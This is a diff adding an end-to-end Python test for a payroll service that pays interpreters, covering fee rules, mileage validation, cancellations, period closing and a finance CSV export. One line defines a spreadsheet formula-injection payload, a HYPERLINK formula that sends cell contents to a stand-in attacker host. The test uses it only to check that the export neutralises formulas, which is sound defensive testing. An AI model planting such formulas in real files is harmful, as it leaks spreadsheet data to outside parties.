@@ -301,3 +301,159 @@ def test_the_cancel_confirmation_warns_by_the_policy_in_force(system, people):
     assert warned(10) is True           # 48 business hours would leave it unbilled
     assert warned(45) is False
     assert warned(10, "document_translation") is False
+
+
+def items_of(api: ApiClient, bid: str, ready) -> list[dict]:
+    """The booking's remuneration items once `ready(items)` holds."""
+    seen = {}
+
+    def check():
+        resp = api.get(f"/bookings/{bid}/remuneration")
+        seen["items"] = resp.json()["items"] if resp.status_code == 200 else []
+        return bool(seen["items"]) and ready(seen["items"])
+
+    try:
+        wait_until(check, timeout=45)
+    except Exception:
+        raise AssertionError(f"{bid}: last seen {seen.get('items')}") from None
+    return jget(api, f"/bookings/{bid}/remuneration")["items"]
+
+
+def fee_and(item: dict, key: str) -> dict:
+    return next(line for line in item["lines"] if line["key"] == key)
+
+
+def test_pay_the_bank_can_sign_off(system, people, tmp_path):
+    """Issue 16 through the running system: each line's rule, the mileage checked against the
+    reference data, a cancellation with a report validated and then corrected by the bank only,
+    implausible reports refused or flagged, a withdrawal paid its communications only, periods that
+    close only when ended and with every provisional amount validated or carried, and a finance CSV
+    a spreadsheet cannot run."""
+    coord = people["coord"]
+    ines, ines_api = people["ines"]
+    body = {"email": "hugo.lointain@example.org", "first_name": "Hugo", "last_name": "Lointain",
+            "role": "interpreter", "password": PASSWORD}
+    hugo = coord.ok(coord.post("/accounts", body), 201)
+    hugo_api = ApiClient.login(system.url, hugo["user_id"], PASSWORD)
+    evil = '=HYPERLINK("http://evil.example/?d="&A1,"Détails")'
+    coord.ok(coord.request("PATCH", f"/profiles/{hugo['user_id']}", json={
+        "region": "14-Lanaudière", "financial": {"legal_name": evil, "supplier_number": "+1",
+                                                 "gst_registered": False, "qst_registered": False}}))
+    coord.ok(coord.request("PATCH", f"/profiles/{ines['user_id']}", json={"region": "06-Montréal"}))
+    period, after = "2025-01-12", "2025-01-26"
+
+    # The rule of each line, in French and English.
+    a = create(coord, "2025-01-14", "10:00", 120)
+    serve(coord, hugo, hugo_api, a, provided("2025-01-14T10:00:00-05:00", "2025-01-14T12:00:00-05:00"))
+    item = remuneration(hugo_api, a, "final", total="82.00")
+    assert fee_and(item, "demande")["rule"] == {"fr": "2 h minimum à 41,00\u00a0$/h, politique BI-2024-11-04",
+                                                 "en": "2 h minimum at $41.00/h, policy BI-2024-11-04"}
+
+    # 450 km one way to Maisonneuve-Rosemont: from the Lanaudière head office (Joliette) the road is
+    # about 62,5 km, so the claim is paid at that figure and flagged; from Montréal's (7,7 km) nothing.
+    far = create(coord, "2025-01-15", "10:00", 120, mode="in_person", facility="HC-HMR")
+    serve(coord, hugo, hugo_api, far, provided("2025-01-15T10:00:00-05:00", "2025-01-15T12:00:00-05:00",
+                                               distance_km="450"))
+    item = remuneration(coord, far, "final", distance="60.00")
+    assert "mileage_reduced" in item["flags"]
+    assert (item["inputs"]["claimed_km"], item["inputs"]["computed_km"]) == ("450.00", "62.5")
+    near = create(coord, "2025-01-15", "14:00", 120, mode="in_person", facility="HC-HMR")
+    serve(coord, ines, ines_api, near, provided("2025-01-15T14:00:00-05:00", "2025-01-15T16:00:00-05:00",
+                                                distance_km="450"), close=False)
+    item = remuneration(coord, near, distance="0.00", total="82.00")
+    assert {"mileage_reduced", "mileage_below_threshold"} <= set(item["flags"])
+    assert "Distance calculée de 7,7\u00a0km" in fee_and(item, "distance")["rule"]["fr"]
+    coord.ok(coord.post(f"/bookings/{near}/close", {"comment": "Kilométrage vérifié"}))
+
+    # A late cancellation with a report goes through validation and becomes final; afterwards only
+    # the bank corrects it.
+    c = create(coord, "2025-01-16", "14:00", 120)
+    coord.ok(coord.post(f"/bookings/{c}/assign", {"interpreter_id": hugo["user_id"]}))
+    coord.ok(coord.post(f"/bookings/{c}/cancel", {"reason": "Usager hospitalisé",
+                                                 "cancelled_at": "2025-01-15T10:00:00-05:00"}))
+    one_call = [{"at": "2025-01-10T10:00:00-05:00", "purpose": "Confirmation du rendez-vous"}]
+    not_provided = {"provided": False, "reason": "Annulation tardive", "cancelled_at": "2025-01-15T10:00:00-05:00",
+                    "communications": one_call}
+    hugo_api.ok(hugo_api.post(f"/bookings/{c}/report", not_provided))
+    remuneration(hugo_api, c, "provisional", total="92.25")
+    closed = coord.ok(coord.post(f"/bookings/{c}/close", {"comment": "Annulation tardive vérifiée"}))
+    assert closed["status"] == "cancelled" and closed["closed_at"]
+    remuneration(hugo_api, c, "final", total="92.25")
+    late = hugo_api.post(f"/bookings/{c}/correct-report", dict(not_provided, communications=one_call * 2))
+    assert late.status_code == 409 and late.json()["error"]["code"] == "booking.validated"
+    assert "seule la coordination" in late.json()["error"]["message"]
+
+    # Implausible reports: refused when impossible, flagged when unusual.
+    p = create(coord, "2025-01-17", "10:00", 120)
+    coord.ok(coord.post(f"/bookings/{p}/assign", {"interpreter_id": hugo["user_id"]}))
+    refused = hugo_api.post(f"/bookings/{p}/report", provided("2099-01-17T10:00:00-05:00", "2099-01-17T12:00:00-05:00"))
+    assert refused.status_code in (400, 422) and set(refused.json()["error"]["fields"]) == {"actual_start", "actual_end"}
+    assert "futur" in refused.json()["error"]["fields"]["actual_end"][0]
+    tomorrow = (datetime.now(MONTREAL) + timedelta(days=1)).isoformat(timespec="seconds")
+    refused = hugo_api.post(f"/bookings/{p}/report", provided(
+        "2025-01-17T10:00:00-05:00", "2025-01-17T12:00:00-05:00", communications=[{"at": tomorrow, "purpose": "x"}]))
+    assert refused.status_code in (400, 422) and "communications.0.at" in refused.json()["error"]["fields"]
+    hugo_api.ok(hugo_api.post(f"/bookings/{p}/report", provided("2025-01-18T08:00:00-05:00",
+                                                                "2025-01-18T10:00:00-05:00")))
+    item = remuneration(coord, p, "provisional", total="82.00")
+    assert "actual_times_outside_window" in item["flags"]
+
+    # A withdrawal 26 h before the start, by the bank, with 2 communications: 20,50 (was 102,50).
+    start = (datetime.now(MONTREAL) + timedelta(hours=26)).replace(second=0, microsecond=0)
+    w = create(coord, start.date().isoformat(), start.strftime("%H:%M"), 120)
+    coord.ok(coord.post(f"/bookings/{w}/assign", {"interpreter_id": ines["user_id"]}))
+    made = [{"at": (datetime.now(MONTREAL) - timedelta(hours=h)).isoformat(timespec="seconds"), "purpose": "Appel"}
+            for h in (30, 5)]
+    coord.ok(coord.post(f"/bookings/{w}/withdraw", {"reason": "Appel de l'interprète", "communications": made}))
+    coord.ok(coord.post(f"/bookings/{w}/assign", {"interpreter_id": hugo["user_id"]}))
+    [withdrawn] = items_of(coord, w, lambda items: any(i["withdrawal"] for i in items))
+    assert (withdrawn["interpreter_id"], withdrawn["demande"], withdrawn["total"]) == (ines["user_id"], "0.00", "20.50")
+
+    # Periods: one that has not ended cannot close; one holding a provisional amount closes once it
+    # is validated or carried; the carried amount waits in the next period.
+    resp = coord.post("/payroll/periods/2030-05-26/close")
+    assert resp.status_code == 409 and resp.json()["error"]["code"] == "payroll.period_not_ended"
+    resp = coord.post(f"/payroll/periods/{period}/close")
+    assert resp.status_code == 409 and resp.json()["error"]["code"] == "payroll.period_has_provisional"
+    assert "provisoire" in resp.json()["error"]["message"]
+    held = jget(coord, f"/payroll/periods/{period}")
+    assert [i["booking_id"] for i in held["provisional_items"]] == [p]
+    closed = coord.ok(coord.post(f"/payroll/periods/{period}/close",
+                                 {"carry": [i["key"] for i in held["provisional_items"]]}))
+    assert (closed["status"], closed["carried"], closed["provisional"]) == ("closed", 1, 0)
+    assert [i["booking_id"] for i in jget(coord, f"/payroll/periods/{after}")["provisional_items"]] == [p]
+
+    # After validation and closing, the bank's correction is an adjustment in the next open period.
+    coord.ok(coord.post(f"/bookings/{c}/correct-report", dict(not_provided, communications=one_call + [
+        {"at": "2025-01-11T10:00:00-05:00", "purpose": "Rappel"}])))
+    item = remuneration(coord, c, "final", total="102.50")
+    assert [(e["period_id"], e["kind"], e["total"]) for e in item["entries"]] == [
+        (period, "final", "92.25"), (after, "adjustment", "10.25")]
+
+    # The finance export: BOM, formulas neutralised, each line's state.
+    resp = coord.get(f"/payroll/periods/{period}/export.csv")
+    assert resp.content.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.DictReader(io.StringIO(resp.content.decode("utf-8-sig"))))
+    mine = [r for r in rows if r["interpreter_id"] == hugo["user_id"]]
+    assert [(r["legal_name"], r["supplier_number"], r["state"]) for r in mine] == [("'" + evil, "'+1", "final")]
+    assert Decimal(mine[0]["total"]) == Decimal("82.00") + Decimal("60.00") + 82 + Decimal("92.25")   # a, far, its fee, c
+    rows = list(csv.DictReader(io.StringIO(coord.get(f"/payroll/periods/{after}/export.csv").content.decode("utf-8-sig"))))
+    assert {(r["state"], r["total"]) for r in rows if r["interpreter_id"] == hugo["user_id"]} == {
+        ("adjustment", "10.25"), ("provisional", "82.00")}
+
+    # The statement PDF names each line's rule (its text is checked in services/payroll/tests).
+    pdf = hugo_api.get(f"/payroll/periods/{period}/statements/{hugo['user_id']}.pdf")
+    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
+
+    # A rebuild from zero gives the same amounts, the reference data and the carry included.
+    with ClusterRpcProxy({"AMQP_URI": system.amqp_uri}) as rpc:
+        live = rpc.payroll.totals()
+    copy = tmp_path / "payroll-copy.sqlite3"
+    with sqlite3.connect(system.data_dir / "payroll.sqlite3") as src, sqlite3.connect(copy) as dst:
+        src.backup(dst)
+    env = dict(os.environ, AMQP_URI=system.amqp_uri, PAYROLL_STORE_URL=f"sqlite:///{copy}", PYTHONPATH=str(ROOT))
+    out = subprocess.run([sys.executable, "-m", "services.payroll.cli", "rebuild"], cwd=ROOT, env=env,
+                         capture_output=True, text=True, timeout=180)
+    assert out.returncode == 0, out.stderr
+    result = json.loads(out.stdout.strip().splitlines()[-1])
+    assert result["identical"] is True and result["after"] == live
